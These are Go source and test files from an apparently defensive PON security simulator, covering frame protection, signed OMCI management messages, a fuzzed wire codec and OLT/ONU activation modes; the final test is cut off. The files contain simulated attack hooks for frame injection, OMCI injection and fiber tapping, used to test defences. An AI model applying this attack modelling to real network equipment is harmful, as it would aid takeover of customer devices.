	a, _ := testChannel(t, 8)
	payload := []byte("SECRET-TELEMETRY")
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: payload})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(pf.Ciphertext, payload) {
		t.Fatal("payload visible in ciphertext")
	}
}

func TestTamperedFrameRejected(t *testing.T) {
	a, b := testChannel(t, 8)
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("data")})
	if err != nil {
		t.Fatal(err)
	}
	pf.Ciphertext[0] ^= 0xff
	if _, err := b.Validate(pf); !errors.Is(err, ErrAuth) {
		t.Fatalf("err = %v, want ErrAuth", err)
	}
	_, _, dropped := b.Stats()
	if dropped != 1 {
		t.Fatalf("dropped = %d, want 1", dropped)
	}
}

func TestAddressSpoofRejected(t *testing.T) {
	a, b := testChannel(t, 8)
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("data")})
	if err != nil {
		t.Fatal(err)
	}
	pf.Dst = [6]byte{0xde, 0xad, 0xbe, 0xef, 0x00, 0x01} // redirect attempt
	if _, err := b.Validate(pf); !errors.Is(err, ErrAuth) {
		t.Fatalf("err = %v, want ErrAuth", err)
	}
}

func TestReplayRejected(t *testing.T) {
	a, b := testChannel(t, 8)
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("pay")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Validate(pf); err != nil {
		t.Fatalf("first Validate: %v", err)
	}
	if _, err := b.Validate(pf); !errors.Is(err, ErrReplay) {
		t.Fatalf("replay err = %v, want ErrReplay", err)
	}
}

func TestReplayWindowAllowsReordering(t *testing.T) {
	a, b := testChannel(t, 4)
	var frames []*ProtectedFrame
	for i := 0; i < 5; i++ {
		pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte{byte(i)}})
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, pf)
	}
	// Deliver out of order within window: 3, 2, 4, 1 (PNs 4,3,5,2).
	for _, i := range []int{3, 2, 4, 1} {
		if _, err := b.Validate(frames[i]); err != nil {
			t.Fatalf("Validate frame %d: %v", i, err)
		}
	}
	// Frame 0 (PN 1) is now below highest(5) - window(4) = 1, so rejected.
	if _, err := b.Validate(frames[0]); !errors.Is(err, ErrReplay) {
		t.Fatalf("stale frame err = %v, want ErrReplay", err)
	}
}

func TestStrictOrderingWindowZero(t *testing.T) {
	a, b := testChannel(t, 0)
	pf1, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("1")})
	if err != nil {
		t.Fatal(err)
	}
	pf2, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("2")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Validate(pf2); err != nil {
		t.Fatalf("Validate pf2: %v", err)
	}
	if _, err := b.Validate(pf1); !errors.Is(err, ErrReplay) {
		t.Fatalf("out-of-order err = %v, want ErrReplay", err)
	}
}

func TestUnknownSARejected(t *testing.T) {
	a, b := testChannel(t, 8)
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	pf.AN = 3
	if _, err := b.Validate(pf); !errors.Is(err, ErrNoSA) {
		t.Fatalf("err = %v, want ErrNoSA", err)
	}
	if _, err := a.Protect(7, Frame{}); !errors.Is(err, ErrNoSA) {
		t.Fatalf("err = %v, want ErrNoSA", err)
	}
}

func TestWrongKeyRejected(t *testing.T) {
	a := NewSecY("a")
	b := NewSecY("b")
	if err := a.InstallTxSA(0, tKey); err != nil {
		t.Fatal(err)
	}
	other := tKey
	other[0] ^= 1
	if err := b.InstallRxSA(0, other, 8); err != nil {
		t.Fatal(err)
	}
	pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Validate(pf); !errors.Is(err, ErrAuth) {
		t.Fatalf("err = %v, want ErrAuth", err)
	}
}

func TestValidateNil(t *testing.T) {
	_, b := testChannel(t, 8)
	if _, err := b.Validate(nil); !errors.Is(err, ErrAuth) {
		t.Fatalf("err = %v, want ErrAuth", err)
	}
}

func TestPacketNumbersMonotonic(t *testing.T) {
	a, _ := testChannel(t, 8)
	var last uint64
	for i := 0; i < 100; i++ {
		pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC})
		if err != nil {
			t.Fatal(err)
		}
		if pf.PN <= last {
			t.Fatalf("PN %d not monotonically increasing after %d", pf.PN, last)
		}
		last = pf.PN
	}
}

func TestStatsAccounting(t *testing.T) {
	a, b := testChannel(t, 8)
	for i := 0; i < 10; i++ {
		pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: []byte{byte(i)}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := b.Validate(pf); err != nil {
			t.Fatal(err)
		}
	}
	protected, _, _ := a.Stats()
	_, validated, dropped := b.Stats()
	if protected != 10 || validated != 10 || dropped != 0 {
		t.Fatalf("stats = %d/%d/%d, want 10/10/0", protected, validated, dropped)
	}
}

// Property: any payload round-trips unchanged through protect/validate.
func TestRoundTripProperty(t *testing.T) {
	a, b := testChannel(t, 1<<20)
	f := func(payload []byte, etherID uint16) bool {
		pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, EtherID: etherID, Payload: payload})
		if err != nil {
			return false
		}
		out, err := b.Validate(pf)
		if err != nil {
			return false
		}
		return out.EtherID == etherID && bytes.Equal(out.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// Property: flipping any single ciphertext bit is always detected.
func TestBitFlipDetectedProperty(t *testing.T) {
	a, b := testChannel(t, 1<<20)
	f := func(payload []byte, bit uint) bool {
		pf, err := a.Protect(0, Frame{Src: srcMAC, Dst: dstMAC, Payload: payload})
		if err != nil {
			return false
		}
		idx := int(bit % uint(len(pf.Ciphertext)*8))
		pf.Ciphertext[idx/8] ^= 1 << (idx % 8)
		_, err = b.Validate(pf)
		return errors.Is(err, ErrAuth)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
