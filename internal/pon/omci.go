package pon

// OMCI (ONU Management and Control Interface, ITU-T G.988): the management
// channel an OLT uses to configure ONUs — key rotation triggers, reboots,
// firmware updates, service provisioning. In GENIO this channel is a prime
// T1/T2 target: an attacker who can inject management frames owns every
// customer premises device. The simulator therefore signs every OMCI
// message with the OLT's identity key and has ONUs verify before acting,
// on top of the per-port payload encryption.

import (
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
)

// OMCIAction is a management operation.
type OMCIAction int

// Management operations.
const (
	OMCIRotateKey OMCIAction = iota + 1
	OMCIReboot
	OMCIFirmwareUpdate
	OMCIProvisionService
)

var omciNames = map[OMCIAction]string{
	OMCIRotateKey:        "rotate-key",
	OMCIReboot:           "reboot",
	OMCIFirmwareUpdate:   "firmware-update",
	OMCIProvisionService: "provision-service",
}

// String names the action.
func (a OMCIAction) String() string {
	if n, ok := omciNames[a]; ok {
		return n
	}
	return fmt.Sprintf("omci(%d)", int(a))
}

// OMCIMessage is one signed management command.
type OMCIMessage struct {
	Action    OMCIAction `json:"action"`
	Serial    string     `json:"serial"` // target ONU
	Arg       string     `json:"arg,omitempty"`
	Seq       uint64     `json:"seq"`
	Signature []byte     `json:"signature,omitempty"`
}

// Errors returned by the management channel.
var (
	ErrOMCIUnsigned = errors.New("pon: omci message not signed by the serving OLT")
	ErrOMCIReplayed = errors.New("pon: omci sequence replayed")
	ErrOMCIWrongONU = errors.New("pon: omci message addressed to another onu")
)

func omciDigest(m OMCIMessage) []byte {
	m.Signature = nil
	b, err := json.Marshal(m)
	if err != nil {
		panic(fmt.Sprintf("pon: marshal omci: %v", err))
	}
	sum := sha256.Sum256(b)
	return sum[:]
}

// OMCILog records management actions an ONU executed.
type OMCILog struct {
	Executed []OMCIMessage `json:"executed"`
	Rejected int           `json:"rejected"`
}

// SendOMCI signs and delivers a management command to the target ONU,
// returning the ONU's acceptance decision. Under ModePlaintext the message
// travels unsigned — the legacy posture a management-channel attacker
// exploits.
func (o *OLT) SendOMCI(serial string, action OMCIAction, arg string) error {
	o.mu.Lock()
	target, ok := o.onus[serial]
	if !ok {
		o.mu.Unlock()
		return fmt.Errorf("%w: %s", ErrNotActivated, serial)
	}
	o.omciSeq++
	msg := OMCIMessage{Action: action, Serial: serial, Arg: arg, Seq: o.omciSeq}
	if o.mode != ModePlaintext && o.identity != nil {
		msg.Signature = ed25519.Sign(o.identity.PrivateKey, omciDigest(msg))
	}
	var oltPub ed25519.PublicKey
	if o.identity != nil {
		oltPub = o.identity.Certificate.PublicKey
	}
	mode := o.mode
	o.mu.Unlock()

	if err := target.executeOMCI(msg, oltPub, mode); err != nil {
		return err
	}
	// Key rotation is a two-sided operation: mirror it on the OLT keyring.
	if action == OMCIRotateKey && mode != ModePlaintext {
		o.mu.Lock()
		defer o.mu.Unlock()
		port := target.Port()
		if o.keyring.HasKey(port) {
			if err := o.keyring.Rotate(port); err != nil {
				return fmt.Errorf("mirror rotation: %w", err)
			}
		}
	}
	return nil
}

// InjectOMCI delivers an attacker-crafted management message to an
// activated ONU, bypassing OLT signing — the management-channel attack.
func (o *OLT) InjectOMCI(msg OMCIMessage) error {
	o.mu.Lock()
	target, ok := o.onus[msg.Serial]
	var oltPub ed25519.PublicKey
	if o.identity != nil {
		oltPub = o.identity.Certificate.PublicKey
	}
	mode := o.mode
	o.mu.Unlock()
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotActivated, msg.Serial)
	}
	return target.executeOMCI(msg, oltPub, mode)
}

// executeOMCI validates and executes a management message on the ONU.
func (u *ONU) executeOMCI(msg OMCIMessage, oltPub ed25519.PublicKey, mode SecurityMode) error {
	u.mu.Lock()
	defer u.mu.Unlock()
	if msg.Serial != u.Serial {
		u.omci.Rejected++
		return fmt.Errorf("%w: %s", ErrOMCIWrongONU, msg.Serial)
	}
	if mode != ModePlaintext {
		if len(msg.Signature) == 0 || oltPub == nil ||
			!ed25519.Verify(oltPub, omciDigest(msg), msg.Signature) {
			u.omci.Rejected++
			return fmt.Errorf("%w: action %s", ErrOMCIUnsigned, msg.Action)
		}
		if msg.Seq <= u.omciLastSeq {
			u.omci.Rejected++
			return fmt.Errorf("%w: seq %d", ErrOMCIReplayed, msg.Seq)
		}
		u.omciLastSeq = msg.Seq
	}
	// Execute.
	switch msg.Action {
	case OMCIRotateKey:
		if u.keys.HasKey(u.port) {
			if err := u.keys.Rotate(u.port); err != nil {
				return err
			}
		}
	case OMCIReboot, OMCIFirmwareUpdate, OMCIProvisionService:
		// State effects are recorded in the log; the simulator has no
		// deeper ONU internals to mutate for these.
	default:
		return fmt.Errorf("pon: unknown omci action %d", msg.Action)
	}
	u.omci.Executed = append(u.omci.Executed, msg)
	return nil
}

// OMCILog returns a copy of the ONU's management log.
func (u *ONU) OMCILog() OMCILog {
	u.mu.Lock()
	defer u.mu.Unlock()
	out := OMCILog{Rejected: u.omci.Rejected}
	out.Executed = append(out.Executed, u.omci.Executed...)
	return out
}
