package pon

import (
	"bytes"
	"errors"
	"testing"
)

func TestFrameCodecRoundTrip(t *testing.T) {
	frames := []XGEMFrame{
		{},
		{Port: 1, Seq: 1, Payload: []byte("hello onu")},
		{Port: BroadcastPort, Seq: 1<<63 + 7, Encrypted: true, Payload: bytes.Repeat([]byte{0xab}, MaxFramePayload)},
	}
	for _, f := range frames {
		b, err := f.MarshalBinary()
		if err != nil {
			t.Fatalf("marshal %+v: %v", f.Port, err)
		}
		got, err := ParseXGEMFrame(b)
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		if got.Port != f.Port || got.Seq != f.Seq || got.Encrypted != f.Encrypted || !bytes.Equal(got.Payload, f.Payload) {
			t.Fatalf("round trip mutated frame: %+v -> %+v", f, got)
		}
	}
}

func TestFrameCodecRejects(t *testing.T) {
	valid, err := XGEMFrame{Port: 3, Seq: 9, Payload: []byte("x")}.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name string
		b    []byte
		want error
	}{
		{"short", valid[:10], ErrFrameTooShort},
		{"version", append([]byte{9}, valid[1:]...), ErrFrameVersion},
		{"flags", func() []byte { b := append([]byte(nil), valid...); b[1] = 0x82; return b }(), ErrFrameFlags},
		{"trailing", append(append([]byte(nil), valid...), 'z'), ErrFrameLength},
		{"truncated-payload", valid[:len(valid)-1], ErrFrameLength},
		{"huge-length", func() []byte {
			b := append([]byte(nil), valid...)
			b[12], b[13], b[14], b[15] = 0xff, 0xff, 0xff, 0xff
			return b
		}(), ErrPayloadTooLarge},
	}
	for _, c := range cases {
		if _, err := ParseXGEMFrame(c.b); !errors.Is(err, c.want) {
			t.Errorf("%s: err = %v, want %v", c.name, err, c.want)
		}
	}
}

func TestMarshalRejectsOversizedPayload(t *testing.T) {
	_, err := XGEMFrame{Payload: make([]byte, MaxFramePayload+1)}.MarshalBinary()
	if !errors.Is(err, ErrPayloadTooLarge) {
		t.Fatalf("err = %v", err)
	}
}

// FuzzParseXGEMFrame fuzzes the wire parser: it must never panic or
// over-allocate on hostile input, and every accepted frame must re-encode
// to exactly the bytes parsed (canonical encoding).
func FuzzParseXGEMFrame(f *testing.F) {
	seedFrames := []XGEMFrame{
		{},
		{Port: 1, Seq: 42, Payload: []byte("downstream payload")},
		{Port: BroadcastPort, Seq: 7, Encrypted: true, Payload: []byte{0, 1, 2, 3}},
	}
	for _, fr := range seedFrames {
		b, err := fr.MarshalBinary()
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Add([]byte{})
	f.Add([]byte{1, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 9, 0xff, 0xff, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, b []byte) {
		fr, err := ParseXGEMFrame(b)
		if err != nil {
			return
		}
		out, err := fr.MarshalBinary()
		if err != nil {
			t.Fatalf("accepted frame failed to re-encode: %v", err)
		}
		if !bytes.Equal(out, b) {
			t.Fatalf("encoding not canonical:\n in=%x\nout=%x", b, out)
		}
	})
}

// FuzzONUDeliver fuzzes the downstream delivery path with parsed hostile
// frames: whatever a physical-layer attacker injects, delivery must not
// panic and must never accept a frame that fails decryption.
func FuzzONUDeliver(f *testing.F) {
	for _, b := range [][]byte{
		func() []byte {
			b, _ := XGEMFrame{Port: 1, Seq: 1, Payload: []byte("plain")}.MarshalBinary()
			return b
		}(),
		func() []byte {
			b, _ := XGEMFrame{Port: 1, Seq: 2, Encrypted: true, Payload: []byte("garbage-ct")}.MarshalBinary()
			return b
		}(),
	} {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		fr, err := ParseXGEMFrame(b)
		if err != nil {
			return
		}
		onu := NewONU("fuzz-onu", nil)
		onu.port = 1
		var key [32]byte
		onu.keys.SetKey(1, key)
		before := len(onu.Received())
		if err := onu.deliver(fr, ModeEncrypted); err == nil && fr.Port == 1 {
			// Accepted: must have decrypted under the installed key, which
			// for fuzz input can only happen via a legitimately sealed
			// payload — verify it was recorded, not silently dropped.
			if len(onu.Received()) != before+1 {
				t.Fatal("accepted frame not recorded")
			}
		}
	})
}
