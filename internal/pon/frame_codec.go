package pon

// Wire codec for XGEM frames: the byte format taps capture and replay
// tooling (and attacker models crafting InjectDownstream input) use to
// move frames in and out of the simulator. The encoding is canonical —
// MarshalBinary(ParseXGEMFrame(b)) == b for every valid b — which is what
// the fuzz harness in frame_codec_test.go exercises.
//
// Layout (big endian):
//
//	[0]     version (currently 1)
//	[1]     flags (bit0: encrypted)
//	[2:4]   XGEM port
//	[4:12]  sequence number
//	[12:16] payload length
//	[16:]   payload

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// Codec limits and layout constants.
const (
	frameCodecVersion = 1
	frameHeaderLen    = 16
	// MaxFramePayload bounds one XGEM payload; oversized lengths are
	// rejected before any allocation, so hostile headers cannot balloon
	// memory.
	MaxFramePayload = 64 * 1024
)

// Errors returned by the wire codec.
var (
	ErrFrameTooShort   = errors.New("pon: frame shorter than header")
	ErrFrameVersion    = errors.New("pon: unsupported frame version")
	ErrFrameFlags      = errors.New("pon: undefined frame flag bits")
	ErrFrameLength     = errors.New("pon: frame length field mismatch")
	ErrPayloadTooLarge = errors.New("pon: frame payload exceeds maximum")
)

// MarshalBinary encodes the frame in the canonical wire format.
func (f XGEMFrame) MarshalBinary() ([]byte, error) {
	if len(f.Payload) > MaxFramePayload {
		return nil, fmt.Errorf("%w: %d bytes", ErrPayloadTooLarge, len(f.Payload))
	}
	out := make([]byte, frameHeaderLen+len(f.Payload))
	out[0] = frameCodecVersion
	if f.Encrypted {
		out[1] = 1
	}
	binary.BigEndian.PutUint16(out[2:4], uint16(f.Port))
	binary.BigEndian.PutUint64(out[4:12], f.Seq)
	binary.BigEndian.PutUint32(out[12:16], uint32(len(f.Payload)))
	copy(out[frameHeaderLen:], f.Payload)
	return out, nil
}

// ParseXGEMFrame decodes one frame from the canonical wire format,
// rejecting truncated input, unknown versions or flags, oversized
// payloads, length mismatches, and trailing bytes.
func ParseXGEMFrame(b []byte) (XGEMFrame, error) {
	if len(b) < frameHeaderLen {
		return XGEMFrame{}, fmt.Errorf("%w: %d bytes", ErrFrameTooShort, len(b))
	}
	if b[0] != frameCodecVersion {
		return XGEMFrame{}, fmt.Errorf("%w: %d", ErrFrameVersion, b[0])
	}
	if b[1]&^1 != 0 {
		return XGEMFrame{}, fmt.Errorf("%w: %#x", ErrFrameFlags, b[1])
	}
	n := binary.BigEndian.Uint32(b[12:16])
	if n > MaxFramePayload {
		return XGEMFrame{}, fmt.Errorf("%w: %d bytes", ErrPayloadTooLarge, n)
	}
	if uint32(len(b)-frameHeaderLen) != n {
		return XGEMFrame{}, fmt.Errorf("%w: header says %d, have %d", ErrFrameLength, n, len(b)-frameHeaderLen)
	}
	f := XGEMFrame{
		Port:      PortID(binary.BigEndian.Uint16(b[2:4])),
		Seq:       binary.BigEndian.Uint64(b[4:12]),
		Encrypted: b[1]&1 == 1,
	}
	if n > 0 {
		f.Payload = append([]byte(nil), b[frameHeaderLen:]...)
	}
	return f, nil
}
