package pon

import (
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"sync"

	"genio/internal/pki"
)

// SecurityMode selects how the PON segment is protected, the experimental
// knob for the Lesson-2 encryption-cost study.
type SecurityMode int

// Security modes.
const (
	// ModePlaintext runs the PON with no payload protection (legacy).
	ModePlaintext SecurityMode = iota + 1
	// ModeEncrypted enables G.987.3-style payload encryption (M3) but
	// accepts any ONU serial at activation (no authentication).
	ModeEncrypted
	// ModeAuthenticated additionally requires certificate-based mutual
	// authentication at activation (M4); keys derive from the handshake.
	ModeAuthenticated
)

// String names the mode.
func (m SecurityMode) String() string {
	switch m {
	case ModePlaintext:
		return "plaintext"
	case ModeEncrypted:
		return "encrypted"
	case ModeAuthenticated:
		return "authenticated"
	default:
		return fmt.Sprintf("mode(%d)", int(m))
	}
}

// Errors returned by network operations.
var (
	ErrNotActivated  = errors.New("pon: onu not activated")
	ErrAuthRequired  = errors.New("pon: activation requires authentication")
	ErrPortExhausted = errors.New("pon: no free xgem ports")
	ErrDuplicate     = errors.New("pon: serial already activated")
)

// Tap is an observer attached to the fiber: it sees every downstream frame,
// modelling the physical fiber-tapping attack the paper cites for T1.
type Tap interface {
	Observe(f XGEMFrame)
}

// TapFunc adapts a function to the Tap interface.
type TapFunc func(f XGEMFrame)

// Observe calls the wrapped function.
func (fn TapFunc) Observe(f XGEMFrame) { fn(f) }

// ONU is an optical network unit at the customer premises. In GENIO it also
// carries low-end compute for far-edge workloads.
type ONU struct {
	Serial   string
	identity *pki.Identity

	mu       sync.Mutex
	port     PortID
	keys     *KeyRing
	lastSeq  map[PortID]uint64
	received []XGEMFrame // decrypted management/data deliveries
	rejected int
	upstream [][]byte // payloads queued for the next upstream grant
	inflate  int      // DBRu report inflation factor (attack hook)
	// OMCI management-channel state (omci.go).
	omci        OMCILog
	omciLastSeq uint64
}

// NewONU creates an ONU with the given serial. identity may be nil for
// legacy (unauthenticated) units.
func NewONU(serial string, identity *pki.Identity) *ONU {
	return &ONU{
		Serial:   serial,
		identity: identity,
		keys:     NewKeyRing(),
		lastSeq:  make(map[PortID]uint64),
	}
}

// Port returns the XGEM port assigned at activation.
func (o *ONU) Port() PortID {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.port
}

// Received returns a copy of successfully delivered payload frames.
func (o *ONU) Received() []XGEMFrame {
	o.mu.Lock()
	defer o.mu.Unlock()
	out := make([]XGEMFrame, len(o.received))
	copy(out, o.received)
	return out
}

// Rejected reports how many downstream frames failed validation.
func (o *ONU) Rejected() int {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.rejected
}

// deliver processes a downstream frame addressed to this ONU's port (or the
// broadcast port). It enforces decryption and per-port sequence freshness.
func (o *ONU) deliver(f XGEMFrame, mode SecurityMode) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if f.Port != o.port && f.Port != BroadcastPort {
		return nil // not ours; PON ONUs silently filter foreign ports
	}
	if mode != ModePlaintext {
		pt, err := o.keys.DecryptFrame(f)
		if err != nil {
			o.rejected++
			return err
		}
		if last, ok := o.lastSeq[f.Port]; ok && f.Seq <= last {
			o.rejected++
			return fmt.Errorf("%w: port %d seq %d <= %d", ErrReplay, f.Port, f.Seq, last)
		}
		o.lastSeq[f.Port] = f.Seq
		f.Payload = pt
		f.Encrypted = false
	}
	o.received = append(o.received, f)
	return nil
}

// OLT is the optical line terminal in the central office; in GENIO it is
// also an edge compute hub. It terminates the fiber tree, activates ONUs,
// and schedules traffic.
type OLT struct {
	Name string

	mu        sync.Mutex
	mode      SecurityMode
	ca        *pki.CA
	identity  *pki.Identity
	rand      io.Reader
	onus      map[string]*ONU // serial -> activated ONU
	ports     map[PortID]*ONU
	keyring   *KeyRing // OLT-side per-port payload keys
	upSeq     map[PortID]uint64
	omciSeq   uint64
	nextPort  PortID
	seq       map[PortID]uint64
	taps      []Tap
	sent      uint64
	activated int
	authFail  int
}

// OLTOption configures an OLT.
type OLTOption func(*OLT)

// WithRandom overrides the OLT randomness source.
func WithRandom(r io.Reader) OLTOption {
	return func(o *OLT) { o.rand = r }
}

// NewOLT creates an OLT operating in the given security mode. For
// ModeAuthenticated both ca and identity (an OLT-role identity issued by
// ca) are required.
func NewOLT(name string, mode SecurityMode, ca *pki.CA, identity *pki.Identity, opts ...OLTOption) (*OLT, error) {
	if mode == ModeAuthenticated && (ca == nil || identity == nil) {
		return nil, errors.New("pon: authenticated mode requires CA and identity")
	}
	o := &OLT{
		Name:     name,
		mode:     mode,
		ca:       ca,
		identity: identity,
		rand:     rand.Reader,
		onus:     make(map[string]*ONU),
		ports:    make(map[PortID]*ONU),
		keyring:  NewKeyRing(),
		nextPort: 1,
		seq:      make(map[PortID]uint64),
	}
	for _, opt := range opts {
		opt(o)
	}
	return o, nil
}

// Mode returns the OLT security mode.
func (o *OLT) Mode() SecurityMode {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.mode
}

// AttachTap attaches a fiber tap that observes all downstream frames.
// Physical access to the fiber is outside the trust boundary, so the
// simulator lets anyone attach one — exactly the attacker model of T1.
func (o *OLT) AttachTap(t Tap) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.taps = append(o.taps, t)
}

// Activate ranges and activates an ONU on the PON, assigning an XGEM port.
// Under ModeAuthenticated it runs the certificate-based mutual handshake
// (M4) and derives the payload key from the session secret; a rogue ONU
// without a valid certificate fails here. Under ModeEncrypted a random key
// is assigned without verifying the device (the insecure-default posture).
func (o *OLT) Activate(onu *ONU) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if _, dup := o.onus[onu.Serial]; dup {
		return fmt.Errorf("%w: %s", ErrDuplicate, onu.Serial)
	}
	if o.nextPort == BroadcastPort {
		return ErrPortExhausted
	}

	var key [32]byte
	switch o.mode {
	case ModePlaintext:
		// No keys, no auth: any serial joins.
	case ModeEncrypted:
		if _, err := io.ReadFull(o.rand, key[:]); err != nil {
			return fmt.Errorf("activation key: %w", err)
		}
	case ModeAuthenticated:
		if onu.identity == nil {
			o.authFail++
			return fmt.Errorf("%w: onu %s has no identity", ErrAuthRequired, onu.Serial)
		}
		sessionKey, err := o.mutualAuth(onu)
		if err != nil {
			o.authFail++
			return fmt.Errorf("activate %s: %w", onu.Serial, err)
		}
		key = sessionKey
	default:
		return fmt.Errorf("pon: unknown security mode %d", o.mode)
	}

	port := o.nextPort
	o.nextPort++
	onu.mu.Lock()
	onu.port = port
	if o.mode != ModePlaintext {
		onu.keys.SetKey(port, key)
	}
	onu.mu.Unlock()

	o.onus[onu.Serial] = onu
	o.ports[port] = onu
	if o.mode != ModePlaintext {
		// OLT keeps the mirror key for the port.
		o.keyring.SetKey(port, key)
	}
	o.activated++
	return nil
}

// mutualAuth runs the onboarding handshake with the ONU and folds the
// session secret into a PON payload key.
func (o *OLT) mutualAuth(onu *ONU) ([32]byte, error) {
	var key [32]byte
	client, err := pki.NewHandshaker(onu.identity, o.ca, pki.RoleOLT, true, o.rand)
	if err != nil {
		return key, err
	}
	server, err := pki.NewHandshaker(o.identity, o.ca, pki.RoleONU, false, o.rand)
	if err != nil {
		return key, err
	}
	offer, err := client.Offer()
	if err != nil {
		return key, err
	}
	reply, err := server.Accept(offer)
	if err != nil {
		return key, err
	}
	if err := client.Finish(reply); err != nil {
		return key, err
	}
	ks, err := server.SessionKeys()
	if err != nil {
		return key, err
	}
	return ks.ClientToServer, nil
}

// SendDownstream transmits payload to the ONU holding the given port. The
// frame is broadcast on the fiber: every tap and every ONU observes it;
// only the addressee can decrypt it when encryption is on.
func (o *OLT) SendDownstream(port PortID, payload []byte) error {
	o.mu.Lock()
	if _, ok := o.ports[port]; !ok && port != BroadcastPort {
		o.mu.Unlock()
		return fmt.Errorf("%w: port %d", ErrNotActivated, port)
	}
	o.seq[port]++
	seq := o.seq[port]

	var frame XGEMFrame
	if o.mode == ModePlaintext {
		frame = XGEMFrame{Port: port, Seq: seq, Payload: append([]byte(nil), payload...)}
	} else {
		var err error
		frame, err = o.keyring.EncryptFrame(port, seq, payload)
		if err != nil {
			o.mu.Unlock()
			return fmt.Errorf("downstream encrypt: %w", err)
		}
	}
	taps := append([]Tap(nil), o.taps...)
	targets := make([]*ONU, 0, len(o.ports))
	for _, u := range o.ports {
		targets = append(targets, u)
	}
	mode := o.mode
	o.sent++
	o.mu.Unlock()

	for _, t := range taps {
		t.Observe(frame)
	}
	var deliverErr error
	for _, u := range targets {
		if err := u.deliver(frame, mode); err != nil && u.Port() == port {
			deliverErr = err
		}
	}
	return deliverErr
}

// InjectDownstream places an attacker-crafted frame on the fiber (downstream
// hijack / replay injection). It bypasses OLT sequencing entirely, exactly
// as a physical-layer attacker would.
func (o *OLT) InjectDownstream(f XGEMFrame) []error {
	o.mu.Lock()
	taps := append([]Tap(nil), o.taps...)
	targets := make([]*ONU, 0, len(o.ports))
	for _, u := range o.ports {
		targets = append(targets, u)
	}
	mode := o.mode
	o.mu.Unlock()

	for _, t := range taps {
		t.Observe(f)
	}
	var errs []error
	for _, u := range targets {
		if err := u.deliver(f, mode); err != nil {
			errs = append(errs, err)
		}
	}
	return errs
}

// RotateKeys rotates the payload key of every active port on both ends.
func (o *OLT) RotateKeys() error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.mode == ModePlaintext {
		return nil
	}
	for port, onu := range o.ports {
		if err := o.keyring.Rotate(port); err != nil {
			return fmt.Errorf("rotate olt side: %w", err)
		}
		onu.mu.Lock()
		err := onu.keys.Rotate(port)
		onu.mu.Unlock()
		if err != nil {
			return fmt.Errorf("rotate onu side: %w", err)
		}
	}
	return nil
}

// Stats reports counters for experiments.
type Stats struct {
	Mode         string `json:"mode"`
	Activated    int    `json:"activated"`
	AuthFailures int    `json:"authFailures"`
	FramesSent   uint64 `json:"framesSent"`
}

// Stats returns a snapshot of OLT counters.
func (o *OLT) Stats() Stats {
	o.mu.Lock()
	defer o.mu.Unlock()
	return Stats{
		Mode:         o.mode.String(),
		Activated:    o.activated,
		AuthFailures: o.authFail,
		FramesSent:   o.sent,
	}
}

// ActiveONUs returns the serials of activated ONUs.
func (o *OLT) ActiveONUs() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	out := make([]string, 0, len(o.onus))
	for s := range o.onus {
		out = append(out, s)
	}
	return out
}
