package pon

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"

	"genio/internal/pki"
)

func testCA(t *testing.T) (*pki.CA, *pki.Identity) {
	t.Helper()
	ca, err := pki.NewCA("genio-root")
	if err != nil {
		t.Fatalf("NewCA: %v", err)
	}
	oltID, err := ca.Issue("olt-01", pki.RoleOLT)
	if err != nil {
		t.Fatalf("Issue OLT: %v", err)
	}
	return ca, oltID
}

func newOLT(t *testing.T, mode SecurityMode) (*OLT, *pki.CA) {
	t.Helper()
	ca, oltID := testCA(t)
	olt, err := NewOLT("olt-01", mode, ca, oltID)
	if err != nil {
		t.Fatalf("NewOLT: %v", err)
	}
	return olt, ca
}

func issuedONU(t *testing.T, ca *pki.CA, serial string) *ONU {
	t.Helper()
	id, err := ca.Issue(serial, pki.RoleONU)
	if err != nil {
		t.Fatalf("Issue %s: %v", serial, err)
	}
	return NewONU(serial, id)
}

func TestActivateAndDeliverPlaintext(t *testing.T) {
	olt, _ := newOLT(t, ModePlaintext)
	onu := NewONU("onu-1", nil)
	if err := olt.Activate(onu); err != nil {
		t.Fatalf("Activate: %v", err)
